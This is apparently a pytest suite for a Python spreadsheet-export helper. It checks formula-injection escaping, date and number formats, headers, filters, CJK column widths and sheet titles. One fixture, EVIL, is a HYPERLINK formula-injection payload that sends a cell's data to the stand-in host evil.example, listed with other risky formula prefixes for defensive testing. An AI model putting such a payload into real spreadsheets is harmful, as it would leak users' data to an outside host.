"""The .xlsx helper: text stays text, dates are dates, numbers numbers; header, pane, filter."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from lvzhi.office.sheets import FIT_ROWS, MAX_CELL_CHARS, PERCENT, Book, Column, sheet_title, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/"&B2,"x")'
RISKY = [EVIL, "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1", "#N/A", "#REF!", " =1"]


def _read(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_looking_text_stays_text(write_only: bool) -> None:
    data = xlsx_bytes("t", ["Text"], [[text] for text in RISKY], write_only=write_only)
    ws = _read(data).worksheets[0]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == RISKY  # the exact text, tab and carriage return included
    assert {c.data_type for c in cells} == {"s"}
    prefixed = {c.value: c.quotePrefix for c in cells}
    assert prefixed[EVIL] and prefixed["+1+2"] and prefixed["\r=1+1"] and prefixed["@SUM(1,2)"]
    assert not prefixed["#N/A"] and not prefixed[" =1"]


def test_formula_text_is_not_written_as_a_formula_element() -> None:
    import zipfile

    data = xlsx_bytes("t", ["Text"], [[EVIL]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet


@pytest.mark.parametrize("write_only", [True, False])
def test_dates_numbers_and_header(write_only: bool) -> None:
    book = Book(write_only=write_only, tz=dt.timezone(dt.timedelta(hours=8)))
    sheet = book.sheet(
        "表", [Column("单位"), Column("日期"), Column("时间"), Column("率", number_format=PERCENT)]
    )
    sheet.append(["江澜市教育局", dt.date(2026, 12, 3), dt.datetime(2026, 12, 3, 1, 30, tzinfo=dt.UTC), 0.75])
    sheet.append(["江澜市卫生健康委员会", None, None, 1])
    sheet.append_after([])
    sheet.append_after(["合计", None, None, 0.8])
    ws = _read(book.to_bytes())["表"]
    header = ws[1]
    assert [c.value for c in header] == ["单位", "日期", "时间", "率"] and all(c.font.b for c in header)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:D3"  # the table, not the totals below it
    day, moment, rate = ws["B2"], ws["C2"], ws["D2"]
    assert day.is_date and day.value == dt.datetime(2026, 12, 3) and day.number_format == "yyyy-mm-dd"
    assert moment.is_date and moment.value == dt.datetime(2026, 12, 3, 9, 30)  # shown in the book's zone
    assert moment.number_format == "yyyy-mm-dd hh:mm"
    assert rate.data_type == "n" and rate.value == 0.75 and rate.number_format == PERCENT
    assert ws["D5"].value == 0.8 and ws["A5"].value == "合计"


def test_column_widths_count_cjk_double() -> None:
    data = xlsx_bytes(
        "t",
        [Column("A"), Column("B"), Column("C", max_width=20), Column("D", width=9)],
        [["江澜市卫生健康委员会", "abcdefghijklmnopqrst", "很" * 100, "x" * 50]],
    )
    dims = _read(data).worksheets[0].column_dimensions
    assert dims["A"].width == 22 and dims["B"].width == 22  # 10 CJK = 20 ASCII, + 2
    assert dims["C"].width == 20 and dims["D"].width == 9


def test_write_only_holds_rows_until_the_widths_are_known() -> None:
    rows = [[f"行{i}", i] for i in range(FIT_ROWS + 50)]
    rows[FIT_ROWS + 10][0] = "很长很长很长很长很长很长很长很长很长很长很长很长"  # after the measured rows
    ws = _read(xlsx_bytes("t", ["Name", "N"], rows, write_only=True)).worksheets[0]
    values = [r for r in ws.iter_rows(min_row=2, values_only=True)]
    assert len(values) == FIT_ROWS + 50 and values[0] == ("行0", 0) and values[-1][1] == FIT_ROWS + 49
    assert ws.column_dimensions["A"].width == 7  # "行199" + 2: fitted to the first FIT_ROWS rows only
    assert ws.auto_filter.ref == f"A1:B{FIT_ROWS + 51}"


def test_control_characters_dropped_and_long_text_cut() -> None:
    ws = _read(xlsx_bytes("t", ["T"], [["a\x00b\x07c\x1fd\ne"], ["x" * (MAX_CELL_CHARS + 10)]])).worksheets[0]
    assert ws["A2"].value == "abcd\ne"
    assert len(ws["A3"].value) == MAX_CELL_CHARS


def test_a_sheet_without_columns_has_no_header_pane_or_filter() -> None:
    book = Book()
    book.sheet("About").append(["Generated", dt.date(2026, 1, 2)])
    ws = _read(book.to_bytes())["About"]
    assert ws["A1"].value == "Generated" and ws["B1"].is_date
    assert ws.freeze_panes is None and ws.auto_filter.ref is None


def test_other_values_become_text() -> None:
    class Label:
        def __str__(self) -> str:
            return "=lazy"

    ws = _read(xlsx_bytes("t", ["T"], [[Label()]])).worksheets[0]
    assert ws["A2"].value == "=lazy" and ws["A2"].data_type == "s"


def test_sheet_title_is_made_valid() -> None:
    assert sheet_title("a/b:c") == "a b c"
    assert len(sheet_title("很" * 40)) == 31
    assert sheet_title("") == "Sheet"
    with pytest.raises(ValueError):
        book = Book()
        sheet = book.sheet("t", ["A"])
        sheet.append_after(["total"])
        sheet.append(["late"])
